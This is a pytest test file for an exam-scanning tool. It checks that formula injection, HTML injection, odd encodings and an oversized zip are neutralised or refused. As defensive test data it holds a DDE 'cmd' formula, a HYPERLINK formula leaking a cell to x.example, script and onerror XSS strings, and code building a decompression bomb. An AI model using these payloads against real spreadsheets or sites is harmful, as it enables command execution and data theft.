"""Hostile text: formulas in what goes out to spreadsheets, HTML in what goes into
report.html, and the files offices write (Windows-1254, a BOM, ``;`` between columns)."""

from __future__ import annotations

import csv
import shutil

import openpyxl
import pytest
import yaml
from click.testing import CliRunner
from hypothesis import example, given, settings
from hypothesis import strategies as st

from omr.cli import cli
from omr.errors import InputFileError, InvalidExamError
from omr.exam import load_exam
from omr.forms import find_form
from omr.pipeline import run_session
from omr.safe_text import (
    FORMULA_LEADS,
    SHEET_TITLE_MAX,
    csv_cell,
    csv_delimiter,
    from_csv_cell,
    picture_name,
    sheet_titles,
)
from omr.score.identity import load_roster
from omr.simulate import simulate_session
from omr.workflow.internal_export import write_internal_export

SCRIPT = '<script>alert("x")</script>'
CODE = '=HYPERLINK("http://x.example/?"&A1,"[click]*?/")'  # a formula, and bad in a sheet title
NAME = '=cmd|" /C calc"!A0'
TITLE = f"+Sınav {SCRIPT} <img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    root = tmp_path_factory.mktemp("text") / "session"
    simulate_session(find_form("quiz-a5"), 4, 2, root, profile="clean", jobs=1)
    exam = yaml.safe_load((root / "exam.yaml").read_text(encoding="utf-8"))
    exam["name"] = TITLE
    exam["courses"][0]["code"] = CODE
    exam["courses"][0]["name"] = f"@Türk Dili {SCRIPT}"
    (root / "exam.yaml").write_text(yaml.safe_dump(exam, allow_unicode=True), encoding="utf-8")
    shutil.move(root / "scans" / "stack.pdf", root / "scans" / "=1+2 -stack.pdf")
    with (root / "roster.csv").open(encoding="utf-8", newline="") as fh:
        people = list(csv.DictReader(fh))
    people[0] |= {"first_name": NAME, "last_name": "+Kaya"}  # a name that is a formula
    with (root / "roster.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(people[0]))
        writer.writeheader()
        writer.writerows(people)
    run_session(root, jobs=1)
    return root / "out"


def _csv_cells(path):
    with path.open(encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            yield from row


@pytest.mark.parametrize("name", ["results.csv", "review.csv", "items.csv", "objections.csv"])
def test_no_csv_cell_starts_a_formula(hostile_run, name):
    cells = list(_csv_cells(hostile_run / name))
    assert cells
    for cell in cells:
        assert not cell.startswith(FORMULA_LEADS) or csv_cell(cell) == cell, (name, cell)
    if name == "results.csv":
        assert f"'{CODE}" in cells and "'=1+2 -stack.pdf:1" in cells


def _text_cells(book) -> list:
    """Every cell value of the workbook, each checked to be no formula."""
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def test_excel_cells_hold_the_text_as_text_in_a_valid_sheet(hostile_run):
    book = openpyxl.load_workbook(hostile_run / "results.xlsx")
    title = book.sheetnames[1]  # Summary (Özet), then the one course's sheet
    assert title == sheet_titles([CODE])[CODE] and len(title) <= SHEET_TITLE_MAX
    values = _text_cells(book)
    assert CODE in values and "=1+2 -stack.pdf:1" in values  # the text itself, unchanged


def test_names_that_are_formulas_stay_text_in_the_internal_export(hostile_run, tmp_path):
    write_internal_export(hostile_run, by="ofis", why="registry match", dest=tmp_path)
    cells = list(_csv_cells(tmp_path / "results-internal.csv"))
    assert f"'{NAME} +Kaya" in cells  # the roster's name, neutralised
    values = _text_cells(openpyxl.load_workbook(tmp_path / "results-internal.xlsx"))
    assert f"{NAME} +Kaya" in values and "=1+2 -stack.pdf" in values


def test_html_in_titles_and_names_is_shown_as_text(hostile_run):
    page = (hostile_run / "report.html").read_text(encoding="utf-8")
    assert "<script" not in page and "<img" not in page
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in page
    assert "Türk Dili" in page and "Sınav" in page


def test_a_neutralised_sheet_id_is_found_again_by_review_apply(hostile_run, tmp_path):
    from omr.workflow.desk import apply_review_file

    with (hostile_run / "results.csv").open(encoding="utf-8", newline="") as fh:
        sheet = next(csv.DictReader(fh))["sheet"]
    assert sheet.startswith("'=")
    decisions = tmp_path / "decisions.csv"
    decisions.write_text(f"sheet,decision,by,why\n{sheet},sheet=void,ayse,test\n", encoding="utf-8")
    (done,) = apply_review_file(hostile_run, decisions, by="ayse", why="test")
    assert done.sheet == from_csv_cell(sheet)


@given(st.text(max_size=40))
@settings(max_examples=300, deadline=None)
def test_csv_cells_never_start_a_formula_and_read_back_unchanged(text):
    cell = csv_cell(text)
    assert not str(cell).startswith(FORMULA_LEADS) or float(cell) == float(text)
    assert from_csv_cell(cell) == text


@given(st.lists(st.text(min_size=1, max_size=40), max_size=8, unique=True))
@example([f"{'Temel Bilgi Teknolojileri ve Kod'[:31]}{k}" for k in "12"])  # 31 shared
@example(["a/b", "a:b", "a[b]", "a*b", "a?b", "a\\b", "Summary", "summary~2"])
@settings(max_examples=200, deadline=None)
def test_sheet_titles_are_valid_and_distinct(codes):
    titles = sheet_titles(codes)
    assert set(titles) == set(codes)
    book = openpyxl.Workbook()
    seen = {"summary"}
    for title in titles.values():
        assert 1 <= len(title) <= SHEET_TITLE_MAX and title.lower() not in seen
        seen.add(title.lower())
        book.create_sheet(title)  # openpyxl refuses what Excel refuses


ROSTER = [
    ("student_number", "national_id", "first_name", "last_name"),
    ("61058800", "77397071944", "Ümit", "Çağlar"),
    ("32860764", "29198044344", "Şükrü", "Işıkoğlu"),
]


@pytest.mark.parametrize(
    ("encoding", "sep"),
    [("utf-8", ","), ("utf-8-sig", ","), ("utf-8-sig", ";"), ("cp1254", ";"), ("iso-8859-9", ",")],
)
def test_a_roster_from_office_software_is_read_right(tmp_path, encoding, sep):
    path = tmp_path / "roster.csv"
    text = "\r\n".join(sep.join(row) for row in ROSTER) + "\r\n"
    path.write_bytes(text.encode(encoding))
    roster = load_roster(path)
    assert roster.by_student["61058800"].name == "Ümit Çağlar"
    assert roster.by_national_id["29198044344"].name == "Şükrü Işıkoğlu"


def _workbook(path, rows) -> None:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)


def test_an_excel_roster_is_read_with_its_numbers_as_typed(tmp_path):
    path = tmp_path / "roster.xlsx"
    head, *body = ROSTER
    # Excel keeps typed numbers as numbers (an 11-digit ID as a float in some files)
    _workbook(
        path, [(), (" " + head[0], *head[1:]), *[(int(a), float(b), c, d) for a, b, c, d in body]]
    )
    roster = load_roster(path)
    assert roster.by_student["61058800"].name == "Ümit Çağlar"
    assert roster.by_national_id["29198044344"].student_number == "32860764"
    assert sorted(roster.by_student) == ["32860764", "61058800"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_roster_with_candidates_twice_is_refused_with_every_line_and_the_fix(tmp_path, suffix):
    path = tmp_path / f"roster{suffix}"
    rows = [
        *ROSTER,
        ("99999999", "77397071944", "Ali", "Veli"),  # line 4: line 2's national ID
        ("32860764", "10000000146", "Ayşe", "Kaya"),  # line 5: line 3's student number
    ]
    if suffix == ".csv":
        path.write_text("\n".join(",".join(r) for r in rows), encoding="utf-8")
    else:
        _workbook(path, rows)
    with pytest.raises(InputFileError) as caught:
        load_roster(path)
    message = str(caught.value)
    assert f"roster{suffix}: 2 candidate row(s) repeat a number of an earlier row" in message
    assert f"roster{suffix}:4: the same national_id as line 2" in message
    assert f"roster{suffix}:5: the same student_number as line 3" in message
    assert "delete the repeated row, or correct the number typed twice" in message
    for personal in ("77397071944", "32860764", "Ali", "Kaya"):
        assert personal not in message  # lines, never the numbers or names


@pytest.mark.parametrize(
    "data", [b"", b"PK\x03\x04 not a zip", b"student_number\n1\n", b"\x00" * 500]
)
def test_a_damaged_excel_roster_is_refused_with_a_reason(tmp_path, data):
    path = tmp_path / "roster.xlsx"
    path.write_bytes(data)
    with pytest.raises(InputFileError, match="not a readable Excel workbook"):
        load_roster(path)


def test_an_exam_file_in_windows_1254_is_read_and_an_impossible_date_refused(tmp_path):
    root = tmp_path / "session"
    simulate_session(find_form("quiz-a5"), 1, 2, root, profile="clean", jobs=1)
    exam = root / "exam.yaml"
    text = exam.read_text(encoding="utf-8").replace("Simulated exam", "Sınav öğleden sonra")
    exam.write_bytes(text.encode("cp1254"))
    assert load_exam(exam).name.startswith("Sınav öğleden sonra")
    exam.write_text(text.replace("date: 2026-11-14", "date: 2026-02-30"), encoding="utf-8")
    with pytest.raises(InvalidExamError, match="day is out of range for month"):
        load_exam(exam)
    exam.write_text("name: " + "[" * 5000 + "]" * 5000, encoding="utf-8")
    with pytest.raises(InvalidExamError, match="nested too deeply"):
        load_exam(exam)


def test_the_separator_is_told_by_the_header():
    assert csv_delimiter("a;b;c\n1,5;2;3") == ";"
    assert csv_delimiter("a,b,c\n1;2;3") == ","


def test_an_excel_roster_that_unpacks_to_hundreds_of_mb_is_refused_unopened(tmp_path):
    import zipfile

    path = tmp_path / "roster.xlsx"
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed,
        packed.open("xl/sharedStrings.xml", "w") as fh,
    ):
        for _ in range(210):
            fh.write(b"\0" * 1_000_000)
    assert path.stat().st_size < 1_000_000
    with pytest.raises(InputFileError, match="unpacks to 210 MB, more than any roster"):
        load_roster(path)


@pytest.mark.parametrize(
    ("lang", "code", "sheets"),
    [
        ("tr", "Özet", ["Özet", "Özet~2", "İnceleme", "Uyarılı", "Maddeler", "İtiraz süreleri"]),
        (
            "en",
            "review",
            ["Summary", "review~2", "Review", "Flagged", "Items", "Objection windows"],
        ),
        (
            "en",
            "Summary",
            ["Summary", "Summary~2", "Review", "Flagged", "Items", "Objection windows"],
        ),
    ],
)
def test_a_course_named_like_a_sheet_of_the_workbook_gets_its_own_sheet(
    tmp_path, lang, code, sheets
):
    root = tmp_path / "session"
    simulate_session(find_form("quiz-a5"), 2, 2, root, profile="clean", jobs=1)
    exam = root / "exam.yaml"
    data = yaml.safe_load(exam.read_text(encoding="utf-8"))
    data["courses"][0]["code"] = code
    exam.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    run_session(root, jobs=1, lang=lang)
    book = openpyxl.load_workbook(root / "out" / "results.xlsx", read_only=True)
    assert book.sheetnames == sheets
    assert book.worksheets[1]["A2"].value == "stack.pdf:1"  # the course's rows, on its sheet


def test_picture_names_stay_short_distinct_and_whole_letters():
    assert picture_name("hall-b/stack-01.pdf:3") == "hall-b_stack-01.pdf-p3"
    long_a, long_b = ("ş" * 120 + f"{k}" + "ğ" * 60 + ".pdf:1" for k in "ab")
    names = {picture_name(long_a), picture_name(long_b)}
    assert len(names) == 2  # the same start and end: told apart by the hash
    for name in names:
        assert len(f".{name}.doubt.png.12345678.tmp.png".encode()) <= 255
        assert name.endswith(".pdf-p1") and "\ufffd" not in name


def test_review_show_on_a_scan_with_a_250_character_name_writes_its_pictures(tmp_path):
    root = tmp_path / "S"
    simulate_session(find_form("quiz-a5"), 1, 2, root, profile="clean", jobs=1)
    name = "a" * 249 + ".pdf"  # the longest a Linux file name may be, nearly
    shutil.move(root / "scans" / "stack.pdf", root / "scans" / name)
    run_session(root, jobs=1)
    result = CliRunner().invoke(cli, ["review", "show", str(root / "out"), f"{name}:1"])
    assert result.exit_code == 0, result.output  # before: OSError, file name too long
    (picture,) = (root / "out" / "review").glob("*.png")
    assert picture.name == picture_name(f"{name}:1") + ".png"
